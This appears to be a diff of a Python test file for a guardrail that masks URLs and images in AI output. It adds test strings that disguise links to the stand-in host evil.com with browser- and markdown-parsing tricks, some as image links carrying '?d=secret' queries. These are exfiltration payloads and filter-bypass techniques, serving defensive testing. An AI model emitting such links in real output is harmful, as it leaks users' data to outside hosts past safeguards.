@@ -17,7 +17,7 @@ from gateway.core.ports import Guardrail
 from gateway.core.slices import at_once
 from gateway.core.specs import GuardrailSpec
 from gateway.core.types import ALLOW, Verdict
-from policies.guardrails.content import _LEAD, _SCHEMES, Hosts, UrlSettings, recognisers
+from policies.guardrails.content import _LEAD, _LINKS, _SCHEMES, Hosts, UrlSettings, recognisers
 from policies.guardrails.recognition.actions import Actions
 from policies.guardrails.recognition.finder import Finder
 from policies.guardrails.recognition.guardrail import EntityGuardrail
@@ -63,16 +63,51 @@ REFUSED = [
     ("ｈttps://evil.com/", "ｈttps://[URL]"),
     ("ht\u200btps://ev\u200bil.com/", "ht\u200btps://[URL]"),
 ]
+AS_BROWSERS_READ = [
+    ("https://example.com,@evil.com/x y", "https://[URL] y"),
+    ("https://example.com;x@evil.com", "https://[URL]"),
+    ("https://example.com'.evil.com/ y", "https://[URL] y"),
+    ("![a](https://example.com(@evil.com/p?d=secret)", "[IMAGE])"),
+    ("[a](https:///evil.com/x)", "[a](https:///[URL])"),
+    ("[a](http:evil.com/x) [a](http:/evil.com)", "[a](http:[URL]) [a](http:/[URL])"),
+    (r"http:\\evil.com\x", r"http:\\[URL]\x"),
+    ("[a](<https://example.com x@evil.com/>)", "[a](<https://[URL]>)"),
+    (r"<img src='/\evil.com/x'>", "[IMAGE]'>"),
+    ("<img src='//evil.com/x' data-src='//x.example.com'>", "[IMAGE]'>"),
+    ('<img src="https://example.com x@evil.com/">', '[IMAGE]">'),
+]
+AS_MARKDOWN_READS = [
+    (r"![a](https\://evil.com/p?d=secret)", "[IMAGE])"),
+    (r"![a](https://example.com\.evil.com/p)", "[IMAGE])"),
+    (r"[a](https://example.com\@evil.com/x)", "[a](https://[URL])"),
+    ("[a](https://example.com&#46;evil.com/x)", "[a](https://[URL])"),
+    ("[a](https://example.com&#44;&#64;evil.com/x)", "[a](https://[URL])"),
+    ("[a](https://example.com&period;evil.com)", "[a](https://[URL])"),
+    ("![a](&#104;ttps://evil.com/p?d=secret)", "![a](&[URL])"),
+    ("[a](https&colon;//evil.com) [a](&#x2f;/evil.com)", "[a](https&[URL]) [a](&[URL])"),
+    ("![a][b]\n\n[b]: //evil.com/p?d=secret", "![a][b]\n\n[b]: //[URL]"),
+    ("[a](\n //evil.com/x)", "[a](\n //[URL])"),
+    ("![a\nb](         //evil.com/x)", "![a\nb](         //[URL])"),
+    ("<img src='&#104;ttps://evil.com/x'>", "[IMAGE]'>"),
+]
 PASSING = [
     "https://example.com/a and https://www.example.com.",
     "a//b http: x :// ://",
     "![a](https://example.com/p.png)",
     "a@b.c",
     "https://",
+    "(https://example.com), [a](https://example.com); `https://example.com` |https://example.com|",
+    "https://example.com,https://www.example.com 'https://example.com'",
+    r'{"a": "https:\/\/example.com\nb.c.d"}',
+    "x=&#39;https://example.com&#39; [a](b&amp;c)",
+    r"[0-9](\\d+) [0-9](\.[0-9]+) vec![1, 2](x) file:///etc/x",
+    "case [x]: //done",
+    "<img src='//example.com' data-src='//x.example.com'>",
+    "![a](<https://example.com/a b>)",
 ]
 
 
-@pytest.mark.parametrize(("text", "masked"), REFUSED)
+@pytest.mark.parametrize(("text", "masked"), [*REFUSED, *AS_BROWSERS_READ, *AS_MARKDOWN_READS])
 def test_what_may_not_be_named_goes_however_it_is_cut(text: str, masked: str) -> None:
     assert check(text).texts == (masked,)
     for cut in range(len(text) + 1):
@@ -90,6 +125,8 @@ def test_a_list_of_what_may_not_be_named() -> None:
     assert check("https://a.evil.com", ANY).action == "rewrite"
     assert check("https://notevil.com", ANY) is ALLOW
     assert check("![a](https://other.org/x)", ANY).texts == ("[IMAGE])",), "a client loads it by itself"
+    for text in ("https://evil&period;com", r"https://evil\.com/", "https://x,.evil.com", "https://other.org,@evil.com"):
+        assert check(text, ANY).texts == ("https://[URL]",), text
 
 
 @pytest.mark.parametrize("text", ["http://127.0.0.1/", "http://joe@example.com", "https://xn--e1awd7f.com", "![a](https://other.org/x)"])
@@ -117,7 +154,9 @@ def test_ordinary_text_is_not_held() -> None:
     assert stream.feed("evil.c") == "" and stream.feed("om/long") == "" and stream.feed("/path x") == "[URL] x"
 
 
-PIECES = [*(text for text, _ in REFUSED), *PASSING, "https://", "![", "](", "//", "@", "evil.com", " ", "/", ".", "[", "é"]
+MASKED = [*REFUSED, *AS_BROWSERS_READ, *AS_MARKDOWN_READS]
+PARTS = ["https://", "![", "](", "//", "@", "evil.com", " ", "/", ".", "[", "é", "&#46;", "\\", "'", ",", "<", "http:"]
+PIECES = [*(text for text, _ in MASKED), *PASSING, *PARTS]
 
 
 @given(st.lists(st.sampled_from(PIECES), max_size=6).map("".join), st.data())
@@ -135,8 +174,7 @@ def apart(**fields: Any) -> EntityGuardrail:
     made = recognisers(Hosts(msgspec.convert(fields, UrlSettings)))
     (both,) = [one for one in made if one.behind == _LEAD]
     place = made.index(both)
-    links = r"\]\([ \t]{0,4}<?(?:\\?/){2}"
-    made[place : place + 1] = [replace(both, behind=_SCHEMES), replace(both, behind=links)]
+    made[place : place + 1] = [replace(both, behind=_SCHEMES), replace(both, behind=_LINKS)]
     return EntityGuardrail(Actions("g", Finder(made), dict.fromkeys(("image", "url"), "mask"), b"", (), "addresses"))
 
 
@@ -183,7 +221,7 @@ def test_addresses_in_a_row_are_not_looked_for_again_behind_each(unit: str) -> N
     for one in behind:
         one.lead = CountedLead(one.lead)
     assert check(unit * 200, guardrail).texts == (unit.replace(unit[unit.index("//") + 2 :].rstrip(), "[URL]") * 200,)
-    assert sum(one.lead.count for one in behind) <= 6 * 200
+    assert max(one.lead.count for one in behind) <= 4 * 200
 
 
 @pytest.mark.parametrize(
